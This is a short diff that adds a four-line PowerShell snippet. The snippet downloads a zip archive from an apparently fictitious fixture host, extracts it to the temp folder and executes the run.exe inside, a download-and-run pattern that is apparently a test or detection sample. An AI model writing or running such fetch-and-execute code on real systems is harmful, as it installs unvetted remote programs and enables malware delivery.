@@ -1,0 +1,4 @@
+$p = "$env:TEMP\kit.zip"
+(New-Object Net.WebClient).DownloadFile("https://kit.fixture.invalid/n.zip", $p)
+Expand-Archive $p -DestinationPath "$env:TEMP\kit" -Force
+& "$env:TEMP\kit\run.exe"
